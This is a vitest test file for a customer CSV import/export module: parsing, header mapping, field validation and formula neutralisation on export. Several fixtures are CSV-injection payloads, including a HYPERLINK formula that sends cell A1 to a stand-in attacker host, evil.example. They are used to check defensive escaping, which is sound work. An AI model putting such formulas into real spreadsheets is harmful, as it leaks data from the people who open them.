import { describe, expect, it } from 'vitest';
import {
  automaticMapping,
  cellText,
  csvLine,
  csvSafeCell,
  detectDelimiter,
  EXPORT_HEADERS,
  exportValues,
  headerKeys,
  IMPORT_MESSAGES,
  ImportFileError,
  importRow,
  importTable,
  matchHeader,
  parseCsv,
  parsePreferences,
  repairPhone,
  resolveMapping,
} from './customer-import.js';

const cells = (text: string) => parseCsv(text).rows.map((r) => r.cells);

describe('CSV', () => {
  it('reads RFC 4180: quoted commas, line breaks and doubled quotes; CRLF, LF and CR', () => {
    expect(cells('a,b\r\n"1, 2","say ""hi"""\r\n')).toEqual([
      ['a', 'b'],
      ['1, 2', 'say "hi"'],
    ]);
    expect(cells('a,b\n"line 1\nline 2",x\n')).toEqual([
      ['a', 'b'],
      ['line 1\nline 2', 'x'],
    ]);
    expect(cells('a\rb\r')).toEqual([['a'], ['b']]);
    expect(cells('a,,\n,,\n')).toEqual([
      ['a', '', ''],
      ['', '', ''],
    ]);
    expect(cells('')).toEqual([]);
    expect(cells('x,')).toEqual([['x', '']]);
  });

  it('numbers rows as the spreadsheet does: a quoted line break stays in its row, blank lines count', () => {
    const { rows } = parseCsv('Name,Address\n"Ann","1 Road\nLeeds"\n\nBob,2 Street\n');
    expect(rows.map((r) => r.row)).toEqual([1, 2, 3, 4]);
    expect(rows[3]!.cells).toEqual(['Bob', '2 Street']);
  });

  it('skips a byte-order mark and reads Excel’s "sep=" line', () => {
    expect(cells('\uFEFFName,Email\r\nZoë,z@example.com\r\n')).toEqual([
      ['Name', 'Email'],
      ['Zoë', 'z@example.com'],
    ]);
    const sep = parseCsv('sep=;\r\nName;Town\r\nAnn;Leeds\r\n');
    expect(sep.delimiter).toBe(';');
    expect(sep.rows).toEqual([
      { row: 1, cells: ['Name', 'Town'] },
      { row: 2, cells: ['Ann', 'Leeds'] },
    ]);
  });

  it('detects comma, semicolon (European Excel) and tab, ignoring quoted ones', () => {
    expect(detectDelimiter('Name,Email\n')).toBe(',');
    expect(detectDelimiter('Name;Address;Town\n"A, B";"1, Road";X\n')).toBe(';');
    expect(detectDelimiter('"Name, full"\tTown\n')).toBe('\t');
    expect(detectDelimiter('Name\n')).toBe(',');
  });

  it('bounds what a hostile file costs: blank rows skipped, rows and columns counted', () => {
    const blanks = parseCsv(`Name\n${'\n'.repeat(1000)},,,\nAnn\n`, { skipBlankRows: true });
    expect(blanks.rows).toEqual([
      { row: 1, cells: ['Name'] },
      { row: 1003, cells: ['Ann'] },
    ]);
    expect(() => parseCsv('Name\nA\nB\n\n', { maxRows: 2 })).toThrow(IMPORT_MESSAGES.tooManyRows(50_000, true));
    expect(parseCsv('Name\nA\n\n', { maxRows: 2 }).rows).toHaveLength(3);
    expect(parseCsv(`a${','.repeat(500)}\n`, { maxColumns: 3 }).rows[0]!.cells).toEqual(['a', '', '']);
    expect(() => parseCsv('a,b,c,d\n', { maxColumns: 3 })).toThrow(IMPORT_MESSAGES.tooManyColumns);
  });

  it('keeps stray quotes of unquoted fields and refuses a quote never closed', () => {
    expect(cells('5" screen,"ab"c\n')).toEqual([['5" screen', 'abc']]);
    expect(() => parseCsv('Name\nAnn\n"Bob,1\nCarl,2\n')).toThrow(
      new ImportFileError(IMPORT_MESSAGES.unclosedQuote(3)),
    );
  });
});

describe('headers', () => {
  it('matches the variants people write', () => {
    const expected: Record<string, string | null> = {
      'Full name': 'name',
      Customer: 'name',
      'Address 1': 'address_line_1',
      'Address line 2': 'address_line_2',
      'Town/City': 'town',
      'Post code': 'postcode',
      'E-mail': 'email',
      'E-mail address': 'email',
      Mobile: 'phone',
      Telephone: 'phone',
      Preferences: 'preferences',
      'Contact by': 'preferences',
      Surname: 'last_name',
      'First name': 'first_name',
      County: 'county',
      Notes: null,
    };
    for (const [header, field] of Object.entries(expected)) expect(matchHeader(header), header).toBe(field);
  });

  it('names blank and repeated headers, and moves a repeated address line to the next', () => {
    const keys = headerKeys(['Name', 'Address', 'Address', '', 'address']);
    expect(keys).toEqual(['Name', 'Address', 'Address (2)', 'Column D', 'address (3)']);
    expect(automaticMapping(keys)).toEqual({
      Name: 'name',
      Address: 'address_line_1',
      'Address (2)': 'address_line_2',
      'Column D': null,
      'address (3)': 'address_line_3',
    });
  });

  it('takes the given mapping over the automatic one, and needs a name', () => {
    const headers = ['Who', 'Mobile', 'Notes'];
    expect(resolveMapping(headers, undefined)).toEqual({ error: IMPORT_MESSAGES.noName });
    expect(resolveMapping(headers, { Who: 'name', Mobile: null })).toEqual({
      columns: ['name', null, null],
      mapping: { Who: 'name', Mobile: null, Notes: null },
    });
    expect(resolveMapping(headers, { Nope: 'name' })).toEqual({ error: 'The file has no column "Nope".' });
    expect(resolveMapping(headers, { Who: 'fax' })).toEqual({
      error: '"fax" is not a field a column can be imported as.',
    });
  });

  it('finds the header under blank rows, drops blank rows and empty columns, and bounds the size', () => {
    const table = importTable([
      { row: 1, cells: ['', ''] },
      { row: 2, cells: ['Name', 'Email', '', ''] },
      { row: 3, cells: ['Ann', 'a@example.com', '', ''] },
      { row: 4, cells: ['', '', '', ''] },
      { row: 5, cells: ['Bob', '', 'note', ''] },
      { row: 6, cells: [' ', ''] },
    ]);
    expect(table.headers).toEqual(['Name', 'Email', 'Column C']);
    expect(table.rows.map((r) => r.row)).toEqual([3, 5]);
    expect(() => importTable([])).toThrow(IMPORT_MESSAGES.empty);
    const many = Array.from({ length: 50_002 }, (_, i) => ({ row: i + 1, cells: [`n${i}`] }));
    expect(() => importTable(many)).toThrow(IMPORT_MESSAGES.tooManyRows(50_001));
    expect(() => importTable([{ row: 1, cells: [...Array(100).fill('h'), 'x'] }])).toThrow(
      IMPORT_MESSAGES.tooManyColumns,
    );
  });
});

describe('rows', () => {
  const columns = [
    'name',
    'address_line_1',
    'address_line_2',
    'town',
    'postcode',
    'email',
    'phone',
    'preferences',
  ] as const;

  it('gives the customer under the Add form’s rules, town last among the lines', () => {
    const r = importRow(
      [
        "  O'Neill, Siobhán ",
        '12 Acacia Avenue',
        '',
        'Bristol',
        'bs82qt',
        'Siobhan@Example.co.uk',
        '07700 900123',
        'SMS',
      ],
      columns,
    );
    expect(r).toEqual({
      ok: true,
      customer: {
        name: "O'Neill, Siobhán",
        address_lines: ['12 Acacia Avenue', 'Bristol'],
        postcode: 'BS8 2QT',
        email: 'siobhan@example.co.uk',
        phone: '07700 900123',
        communications_preference: ['Mail', 'SMS'],
        match_key: 'o neill siobhan|BS8 2QT',
      },
    });
  });

  it('keeps blanks as blanks (null), so an update keeps what is stored', () => {
    expect(importRow(['Zoë Brontë'], columns)).toEqual({
      ok: true,
      customer: {
        name: 'Zoë Brontë',
        address_lines: [],
        postcode: null,
        email: null,
        phone: null,
        communications_preference: null,
        match_key: 'zoe bronte|',
      },
    });
  });

  it('joins first and last names, and takes the first value of two columns for one field', () => {
    const r = importRow(['Ann', 'Lee', '', '07700900456'], ['first_name', 'last_name', 'phone', 'phone']);
    expect(r.ok && [r.customer.name, r.customer.phone]).toEqual(['Ann Lee', '07700900456']);
  });

  it('says which field is wrong, with the spec’s messages', () => {
    const bad = (row: string[]) => {
      const r = importRow(row, columns);
      return r.ok ? 'ok' : r.reason;
    };
    expect(bad(['', '1 Road'])).toBe('Name - This field is required');
    expect(bad(['Ann', '', '', '', 'BS8'])).toBe('Postcode - Invalid Postcode (BS8)');
    expect(bad(['Ann', '', '', '', '', 'not-an-email'])).toBe('Email - Must be a valid email address (not-an-email)');
    expect(bad(['Ann', '', '', '', '', '', '12345'])).toBe('Phone - Must be a valid UK phone number (12345)');
    expect(bad(['Ann', '', '', '', '', '', '', 'Fax'])).toBe(
      'Communication preferences - "Fax" is not a preference (Mail, Email, SMS or Cloud storage)',
    );
    expect(bad(['x'.repeat(201)])).toBe('Name - Must have at most 200 characters');
    expect(bad(['Ann', 'y'.repeat(201)])).toBe('Address line 1 - Must have at most 200 characters');
    expect(bad(['', '', '', '', 'BS8'])).toBe('Name - This field is required; Postcode - Invalid Postcode (BS8)');
    expect(bad(['A\u0000nn'])).toBe('Name - Text must not contain the NUL character.');
  });

  it('splits an address typed on several lines of one cell, and joins a name broken over lines', () => {
    const r = importRow(['Dr\nAnn  Lee', 'Flat 3\r\n1 Park Row\n', '', 'Leeds'], columns);
    expect(r.ok && [r.customer.name, r.customer.address_lines]).toEqual([
      'Dr Ann  Lee',
      ['Flat 3', '1 Park Row', 'Leeds'],
    ]);
    const long = importRow(['Ann', '1\n2\n3\n4\n5', '6', '7'], columns);
    expect(long.ok ? 'ok' : long.reason).toBe('Address - Must have at most 6 lines');
  });

  it('stores a formula as its text, exactly', () => {
    const r = importRow(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '+44', '-2'], columns);
    expect(r.ok && [r.customer.name, ...r.customer.address_lines]).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '@SUM(1+1)',
      '+44',
      '-2',
    ]);
  });
});

describe('spreadsheet idioms', () => {
  it('reads a phone stored as a number (no leading 0) and common punctuation', () => {
    expect(repairPhone('7700900123')).toBe('07700900123');
    expect(repairPhone('1174960123')).toBe('01174960123');
    expect(repairPhone('447700900123')).toBe('+447700900123');
    expect(repairPhone('+44 (0) 7700 900123')).toBe('+44 7700 900123');
    expect(repairPhone('(0117) 496-0123')).toBe('0117 496 0123');
    expect(repairPhone('07700 900123')).toBe('07700 900123');
    expect(repairPhone('4.4770090012E+11')).toBe('4.4770090012E+11');
    expect(repairPhone('12345')).toBe('12345');
  });

  it('reads preferences written as text', () => {
    expect(parsePreferences('Mail; SMS')).toEqual({ preferences: ['Mail', 'SMS'] });
    expect(parsePreferences('email, post')).toEqual({ preferences: ['Mail', 'Email'] });
    expect(parsePreferences('Email and Text')).toEqual({ preferences: ['Email', 'SMS'] });
    expect(parsePreferences('sms')).toEqual({ preferences: ['Mail', 'SMS'] });
    expect(parsePreferences('Cloud storage / E-mail')).toEqual({ preferences: ['Email', 'Cloud storage'] });
    expect(parsePreferences('  ')).toEqual({ preferences: null });
    expect(parsePreferences('Pigeon')).toEqual({
      error: '"Pigeon" is not a preference (Mail, Email, SMS or Cloud storage)',
    });
  });

  it('undoes Excel’s ="..." and the export’s apostrophe, nothing else', () => {
    expect(cellText(' ="07700900123" ')).toBe('07700900123');
    expect(cellText("'=HYPERLINK(1)")).toBe('=HYPERLINK(1)');
    expect(cellText("'Twas Ltd")).toBe("'Twas Ltd");
    expect(cellText('=1+1')).toBe('=1+1');
  });
});

describe('export', () => {
  it('neutralises formulas (OWASP) and quotes what needs it', () => {
    for (const v of ['=1+1', '+44', '-2', '@SUM(A1)', '\tx', '\rx'])
      expect(csvSafeCell(v), JSON.stringify(v)).toBe(`'${v}`);
    expect(csvSafeCell("O'Neill")).toBe("O'Neill");
    expect(csvSafeCell('')).toBe('');
    expect(csvLine(['=HYPERLINK("http://x","y")', 'a,b', 'line\nbreak', null])).toBe(
      `"'=HYPERLINK(""http://x"",""y"")","a,b","line\nbreak",`,
    );
  });

  it('imports back what it exported', () => {
    const stored = {
      name: '=HYPERLINK("http://evil.example","Click")',
      address_lines: ['Flat 3', '1 Park Row', 'Headingley', 'Kirkstall', 'Leeds', 'West Yorkshire'],
      postcode: 'LS1 5HD',
      email: 'ann@example.com',
      phone: '+44 7700 900123',
      communications_preference: ['Mail', 'SMS'],
    };
    for (const lines of [stored.address_lines, stored.address_lines.slice(0, 3), []]) {
      const text = `${csvLine(EXPORT_HEADERS)}\r\n${csvLine(exportValues({ ...stored, address_lines: lines }))}\r\n`;
      const table = importTable(parseCsv(text).rows);
      const mapping = resolveMapping(table.headers, undefined);
      if ('error' in mapping) throw new Error(mapping.error);
      const r = importRow(table.rows[0]!.cells, mapping.columns);
      expect(r.ok && r.customer).toMatchObject({ ...stored, address_lines: lines });
    }
  });
});
